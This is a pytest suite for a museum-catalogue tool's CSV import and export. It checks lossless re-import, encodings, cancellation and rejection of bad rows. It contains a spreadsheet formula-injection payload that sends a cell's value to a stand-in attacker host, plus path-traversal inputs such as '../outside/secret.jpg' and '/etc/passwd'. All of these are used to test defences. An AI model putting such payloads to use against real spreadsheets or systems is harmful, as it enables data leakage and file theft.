"""Import, export and re-import on real catalogues (SQLite and PostgreSQL), bad input included."""

from __future__ import annotations

import csv
import os
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from heritage_desk.core.model import Action, Asset, Field, Provenance
from heritage_desk.core.progress import Cancelled, CancelToken, Progress
from heritage_desk.storage.catalogue import Catalogue
from heritage_desk.storage.exporter import export_columns, export_csv
from heritage_desk.storage.importer import ImportFailed, ImportReport, import_collection
from tests.fixtures import broken
from tests.fixtures.broken import append_raw, write_csv

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def cat(catalogue_url: str) -> Iterator[Catalogue]:
    c = Catalogue.open(catalogue_url)
    yield c
    c.close()


def _state(a: Asset) -> dict[str, object]:
    fields = {
        f.value: (v.value, v.provenance, v.year_from, v.year_to, v.model_version,
                  v.probability, v.reviewer, v.decided_at)
        for f, v in a.fields.items()
    }  # fmt: skip
    return {"path": a.image_path, "inventory": a.inventory_number, **fields}


def _all(cat: Catalogue) -> dict[str, dict[str, object]]:
    return {a.image_path: _state(a) for a in cat.get_assets(cat.asset_ids())}


def _unconfirmed(state: dict[str, dict[str, object]]) -> dict[str, dict[str, object]]:
    """What an import of an export restores: confirmed values as imported (issue 16 item 15)."""
    out: dict[str, dict[str, object]] = {}
    for path, fields in state.items():
        out[path] = dict(fields)
        for k, v in fields.items():
            if isinstance(v, tuple) and v[1] != Provenance.IMPORTED:
                out[path][k] = (v[0], Provenance.IMPORTED, v[2], v[3], None, None, None, v[7])
    return out


def _named(report: ImportReport, text: str) -> bool:
    return any(text in f"{w}: {r}" for w, r in report.problems)


def _slice(src: Path, dst: Path, n: int) -> Path:
    """The first n aic-demo images and their rows, in a folder of their own."""
    (dst / "images").mkdir(parents=True)
    with (src / "labels.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    for r in rows[1 : n + 1]:
        shutil.copyfile(src / r[0], dst / r[0])
    write_csv(dst / "labels.csv", rows[: n + 1])
    return dst


def test_aic_demo_imports_135_and_reimports_nothing_twice(
    cat: Catalogue, aic_demo_dir: Path
) -> None:
    report = import_collection(cat, aic_demo_dir, aic_demo_dir / "labels.csv")
    assert (report.files, report.added, report.problems) == (135, 135, [])
    assert cat.stats()["assets"] == 135
    monet = cat.find_asset_by_path("images/aic_20535.jpg")
    assert monet is not None and monet.value(Field.ARTIST) == "Claude Monet"
    date = monet.fields[Field.DATE]
    assert (date.value, date.year_from, date.year_to) == ("1885", 1885, 1885)
    ranged = [a for a in cat.get_assets(cat.asset_ids()) if a.value(Field.DATE) == "1870/80"]
    assert all(a.fields[Field.DATE].year_to == 1880 for a in ranged)
    again = import_collection(cat, aic_demo_dir, aic_demo_dir / "labels.csv")
    assert (again.added, again.updated, again.unchanged) == (0, 0, 135)
    assert cat.stats()["assets"] == 135


def test_export_then_reimport_is_lossless(cat: Catalogue, aic_demo_dir: Path,
                                          tmp_path: Path) -> None:  # fmt: skip
    src = _slice(aic_demo_dir, tmp_path / "src", 12)
    import_collection(cat, src, src / "labels.csv")
    ids = cat.asset_ids()
    cat.set_field(ids[0], Field.TITLE, PAYLOAD, Provenance.CURATOR, reviewer="ann",
                  action=Action.EDIT)  # fmt: skip
    cat.set_field(ids[1], Field.ARTIST, "Claude Monet", Provenance.SUGGESTION, reviewer="bob",
                  model_version="m-1", probability=0.8123456789, action=Action.ACCEPT)  # fmt: skip
    cat.set_field(ids[2], Field.DATE, "c. 1880", Provenance.CURATOR, year_from=1878,
                  year_to=1882, reviewer="ann", action=Action.EDIT)  # fmt: skip
    cat.set_field(ids[3], Field.TITLE, "-12", Provenance.CURATOR, reviewer="ann")
    cat.set_field(ids[4], Field.GENRE, '@home\tand\r\nabroad, "quoted"', Provenance.CURATOR)
    out = tmp_path / "export.csv"
    report = export_csv(cat, out)
    assert report.rows == 12
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == export_columns()
    cells = {c for r in rows[1:] for c in r}
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells  # neutralised
    assert "-12" in cells  # a plain negative number stays a number
    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells)
    assert out.read_bytes().count(b"\r\n") >= 13  # RFC 4180 line ends
    fresh = Catalogue.open(tmp_path / "fresh.sqlite")
    try:
        again = import_collection(fresh, src, out)
        assert (again.added, again.problems) == (12, [])
        # Every value and year, and the time it was decided, come back; a confirmation does
        # not: a file cannot prove one, so curator/suggestion values are read as imported.
        assert _all(fresh) == _unconfirmed(_all(cat))
        assert len(again.unproven_rows) == 5
    finally:
        fresh.close()
    same = import_collection(cat, src, out)  # into itself: nothing changes
    assert (same.added, same.updated, same.unchanged) == (0, 0, 12)


def test_export_bom_and_atomic_replace(cat: Catalogue, tmp_path: Path) -> None:
    broken.good_jpeg(tmp_path / "img" / "a.jpg")
    import_collection(cat, tmp_path / "img")
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "export.csv"
    out.write_text("old content")
    export_csv(cat, out, bom=True)
    assert out.read_bytes().startswith(b"\xef\xbb\xbfimage_file,")
    again = import_collection(cat, tmp_path / "img", out)  # the BOM does not hide image_file
    assert (again.unchanged, again.problems) == (1, [])
    token = CancelToken()
    token.cancel()
    with pytest.raises(Cancelled):
        export_csv(cat, tmp_path / "out" / "cancelled.csv", cancel=token)
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["export.csv"]  # no temp left


def test_reimport_never_overwrites_curator_values(cat: Catalogue, tmp_path: Path) -> None:
    img = tmp_path / "img"
    for name in ("a.jpg", "b.jpg"):
        broken.good_jpeg(img / name)
    meta = write_csv(tmp_path / "m.csv", [["file", "artist", "date", "title"],
                                          ["a.jpg", "Monet", "1874", "Old"],
                                          ["b.jpg", "", "", "B"]])  # fmt: skip
    assert import_collection(cat, img, meta).added == 2
    a = cat.find_asset_by_path("a.jpg")
    b = cat.find_asset_by_path("b.jpg")
    assert a is not None and b is not None
    cat.set_field(a.id, Field.ARTIST, "Claude Monet", Provenance.CURATOR, reviewer="ann",
                  action=Action.EDIT)  # fmt: skip
    cat.set_field(b.id, Field.DATE, "1880", Provenance.SUGGESTION, year_from=1880,
                  year_to=1880, model_version="m", probability=0.5, reviewer="ann",
                  action=Action.ACCEPT)  # fmt: skip
    header = ["file", "artist", "date", "title"]
    rows = [header, ["a.jpg", "Renoir", "1875", "New"], ["b.jpg", "Degas", "1890", "B"]]
    write_csv(meta, rows)
    report = import_collection(cat, img, meta)
    assert (report.added, report.updated, report.kept_curator_values) == (0, 2, 2)
    a2, b2 = cat.get_asset(a.id), cat.get_asset(b.id)
    assert a2.value(Field.ARTIST) == "Claude Monet"  # curator's
    assert (a2.value(Field.DATE), a2.value(Field.TITLE)) == ("1875", "New")  # imported: updated
    assert (b2.value(Field.DATE), b2.value(Field.ARTIST)) == ("1880", "Degas")


def _broken_corpus(tmp_path: Path) -> tuple[Path, Path, set[str]]:
    """Images (good, broken, odd) and a CSV with every kind of bad row."""
    img, outside = tmp_path / "img", tmp_path / "outside"
    outside.mkdir()
    good = {"a.jpg", "sub/b.png", "c.jpeg", "deep/er/d.tif"}
    broken.good_jpeg(img / "a.jpg")
    broken.good_png(img / "sub" / "b.png")
    broken.good_jpeg(img / "c.jpeg")
    (img / "deep" / "er").mkdir(parents=True)
    from PIL import Image

    Image.new("RGB", (20, 10), (1, 2, 3)).save(img / "deep" / "er" / "d.tif")
    for name, (make, _) in {**broken.BROKEN_IMAGES, **broken.ODD_IMAGES}.items():
        make(img / name)
    good |= set(broken.ODD_IMAGES)
    shutil.copyfile(img / "a.jpg", img / "copy_of_a.jpg")  # duplicate content
    broken.good_jpeg(outside / "secret.jpg")
    os.symlink(outside / "secret.jpg", img / "escape.jpg")
    (img / "readme.txt").write_text("not imported")
    meta = write_csv(tmp_path / "meta.csv", [
        ["filename", "Creator", "Date", "Title", "Accession Number"],
        ["a.jpg", "Édouard Manet", "c. 1870", "A", "INV-1"],
        ["sub/b.png", "RENOIR, Pierre-Auguste", "1870/80", "B", "INV-2"],
        ["images/c.jpeg", "After Titian", "17th century", "C", "INV-3"],
        ["missing.jpg", "Nobody", "1900", "M", "INV-4"],
        ["../outside/secret.jpg", "Thief", "1900", "X", "INV-5"],
        ["/etc/passwd", "Thief", "1900", "Y", "INV-6"],
        ["escape.jpg", "Thief", "1900", "Z", "INV-7"],
        ["corrupt.jpg", "Broken", "1900", "Q", "INV-8"],
        ["readme.txt", "Text", "1900", "R", "INV-9"],
    ])  # fmt: skip
    append_raw(meta, "cmyk.jpg,Degas,1879\r\n")  # row 11: ragged
    append_raw(meta, "deep.png,Zo\x00e,1880,D,INV-10\r\n")  # row 12: NUL
    append_raw(meta, 'moving.gif,"Open quote,1881,G,INV-11\r\n')  # row 13: unterminated quote
    append_raw(meta, "rotated.jpg,Sisley,1882,R,INV-12\r\n")  # row 14: fine
    return img, meta, good


def test_broken_corpus_imports_its_valid_part_and_names_every_broken_item(
    cat: Catalogue, tmp_path: Path
) -> None:
    img, meta, good = _broken_corpus(tmp_path)
    report = import_collection(cat, img, meta)
    assert {a.image_path for a in cat.get_assets(cat.asset_ids())} == good
    assert report.added == len(good)
    assert report.skipped_duplicates == 1
    for name in broken.BROKEN_IMAGES:
        assert _named(report, name), name
    for text in ("escape.jpg: symlink leads outside",
                 "meta.csv row 5: file 'missing.jpg' not found",
                 "meta.csv row 6, column 'filename'", "climbs out", "meta.csv row 7, column",
                 "absolute path", "meta.csv row 8: 'escape.jpg' leads outside",
                 "meta.csv row 10: file 'readme.txt' is not an image",
                 "meta.csv row 11, column 'Title'", "meta.csv row 12, column 'Creator': NUL",
                 "meta.csv row 13, column 'Creator': unterminated quote"):  # fmt: skip
        assert _named(report, text), (text, report.problems)
    assert all("\n" not in f"{w}{r}" for w, r in report.problems)
    notes = " ".join(f"{w}: {r}" for w, r in report.notes)
    for name, (_, note) in broken.ODD_IMAGES.items():
        assert f"{name}: " in notes and note in notes
    a = cat.find_asset_by_path("a.jpg")
    assert a is not None and a.inventory_number == "INV-1"
    assert a.value(Field.ARTIST) == "Édouard Manet"
    c = cat.find_asset_by_path("c.jpeg")  # joined by path suffix
    assert c is not None and c.fields[Field.DATE].year_from == 1600
    rotated = cat.find_asset_by_path("rotated.jpg")
    assert rotated is not None and (rotated.width, rotated.height) == (20, 60)
    assert rotated.value(Field.ARTIST) == "Sisley"


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("cp1252", ","), ("utf-16", ","), ("utf-8-sig", ";"), ("utf-8", "\t")],
)
def test_csv_encodings_import(tmp_path: Path, encoding: str, delimiter: str) -> None:
    broken.good_jpeg(tmp_path / "img" / "a.jpg")
    rows = [["Image", "Maker", "Year"], ["a.jpg", "Cézanne", "1890s"]]
    meta = write_csv(tmp_path / "m.csv", rows, encoding=encoding, delimiter=delimiter)
    with Catalogue.open(tmp_path / "c.sqlite") as cat:
        report = import_collection(cat, tmp_path / "img", meta)
        a = cat.find_asset_by_path("a.jpg")
    assert report.added == 1
    assert a is not None and a.value(Field.ARTIST) == "Cézanne"
    assert a.fields[Field.DATE].year_to == 1899


def test_join_by_id_column_and_explicit_mapping(tmp_path: Path) -> None:
    broken.good_jpeg(tmp_path / "img" / "aic_101.jpg")
    broken.good_jpeg(tmp_path / "img" / "sub" / "202.jpg")
    meta = write_csv(tmp_path / "m.csv", [["object", "who"], ["101", "Monet"], ["202", "Manet"]])
    with Catalogue.open(tmp_path / "c.sqlite") as cat:
        report = import_collection(cat, tmp_path / "img", meta, {"id": "object", "artist": "who"})
        values = {a.image_path: a.value(Field.ARTIST) for a in cat.get_assets(cat.asset_ids())}
        again = import_collection(cat, tmp_path / "img", meta)  # the saved mapping reapplies
        assert again.mapping_sources == {"id": "saved", "artist": "saved"}
    with (
        Catalogue.open(tmp_path / "other.sqlite") as other,  # no mapping saved there
        pytest.raises(ImportFailed, match="no file-name or id column"),
    ):
        import_collection(other, tmp_path / "img", meta)
    assert report.problems == []
    assert values == {"aic_101.jpg": "Monet", "sub/202.jpg": "Manet"}


def test_progress_and_cancel_then_resume(tmp_path: Path) -> None:
    for i in range(6):
        broken.good_jpeg(tmp_path / "img" / f"{i}.jpg")
    token, seen = CancelToken(), []

    def progress(p: Progress) -> None:
        seen.append(p)
        if p.done == 2:
            token.cancel()

    with Catalogue.open(tmp_path / "c.sqlite") as cat:
        report = import_collection(cat, tmp_path / "img", progress=progress, cancel=token)
        assert report.cancelled and report.added == 2 and cat.stats()["assets"] == 2
        assert [(p.done, p.total) for p in seen] == [(1, 6), (2, 6)]
        rest = import_collection(cat, tmp_path / "img")
        assert (rest.added, rest.unchanged, cat.stats()["assets"]) == (4, 2, 6)


def test_missing_images_folder_and_bad_csv_fail_in_one_line(tmp_path: Path) -> None:
    with Catalogue.open(tmp_path / "c.sqlite") as cat:
        with pytest.raises(ImportFailed, match="no such images folder"):
            import_collection(cat, tmp_path / "nope")
        (tmp_path / "img").mkdir()
        with pytest.raises(ImportFailed, match="no such file"):
            import_collection(cat, tmp_path / "img", tmp_path / "nope.csv")
        assert cat.stats()["assets"] == 0
